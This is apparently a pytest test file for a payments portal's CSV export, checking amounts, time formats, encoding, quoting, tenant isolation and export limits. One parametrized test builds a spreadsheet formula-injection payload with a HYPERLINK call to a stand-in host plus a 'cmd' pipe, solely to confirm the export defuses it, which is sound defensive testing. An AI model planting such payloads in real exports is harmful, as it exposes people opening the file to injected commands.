"""The history as a file: safe to open in a spreadsheet, and the same rows as on the page."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from flask.testing import FlaskClient

from portal import csv_lines, db
from portal.accounts.models import Customer
from portal.payments import queries
from tests import factories
from tests.payments.test_history import bulk, customer, pay, reader

__all__ = ["customer", "reader"]

pytestmark = pytest.mark.database("sqlite")


def rows(browser: FlaskClient, query: str = "") -> list[dict[str, str]]:
    answer = browser.get(f"/payments.csv{query}")
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")))


def test_a_payment_is_a_row_with_plain_amounts_and_utc_times(reader: FlaskClient, customer: Customer) -> None:
    with db.transaction() as session:
        invoice = factories.invoice(session, customer, number="INV-2026-000001", status="paid")
        made = factories.payment(session, customer, invoice, created_at=datetime(2026, 3, 1, 12, tzinfo=UTC))
    (row,) = rows(reader)
    assert row == {
        "date": "2026-03-01T12:00:00+00:00",
        "payment": made.id,
        "status": "succeeded",
        "amount": "119.00",
        "currency": "EUR",
        "description": "Invoice INV-2026-000001",
        "invoice": "INV-2026-000001",
        "card": "visa 4242",
        "stripe_payment_intent": made.stripe_intent_id,
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_only_shown(reader: FlaskClient, customer: Customer, start: str) -> None:
    formula = f"{start}HYPERLINK(\"http://evil.test\";A1)|'cmd'"
    pay(customer, description=formula)
    (row,) = rows(reader)
    assert row["description"] == "'" + formula


def test_quotes_commas_and_line_breaks_stay_in_their_cell(reader: FlaskClient, customer: Customer) -> None:
    awkward = 'He said "pay, now"\r\nand; left'
    pay(customer, description=awkward)
    assert [row["description"] for row in rows(reader)] == [awkward]


def test_spreadsheets_read_the_umlauts(reader: FlaskClient, customer: Customer) -> None:
    pay(customer, description="Überweisung für Zoë 株式会社")
    answer = reader.get("/payments.csv")
    assert answer.get_data().startswith(b"\xef\xbb\xbfdate,")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="payments.csv"'
    assert rows(reader)[0]["description"] == "Überweisung für Zoë 株式会社"


@pytest.mark.parametrize(
    ("currency", "minor", "amount"), [("jpy", 500, "500"), ("kwd", 1_230, "1.230"), ("eur", 5, "0.05")]
)
def test_amounts_have_the_decimals_of_their_currency(
    reader: FlaskClient, customer: Customer, currency: str, minor: int, amount: str
) -> None:
    pay(customer, currency=currency, amount_minor=minor)
    assert rows(reader)[0]["amount"] == amount


def test_nobody_elses_payments_are_in_the_file(reader: FlaskClient, customer: Customer) -> None:
    with db.transaction() as session:
        factories.payment(session, factories.customer(session), description="another's")
    assert rows(reader) == []


def test_the_file_holds_all_pages_but_has_an_end(
    reader: FlaskClient, customer: Customer, monkeypatch: pytest.MonkeyPatch
) -> None:
    with db.transaction() as session:
        bulk(session, customer, 45)
    assert len(rows(reader)) == 45
    assert len(rows(reader, "?q=no.+00004")) == 6
    monkeypatch.setattr(queries, "EXPORT_LIMIT", 30)
    found = [row["description"] for row in rows(reader)]
    assert (len(found), found[0]) == (30, "Deposit no. 000045")


def test_only_what_begins_like_a_formula_is_changed() -> None:
    assert [csv_lines.defused(cell) for cell in ("", "a=b", "1-2", "=1", "-1")] == ["", "a=b", "1-2", "'=1", "'-1"]
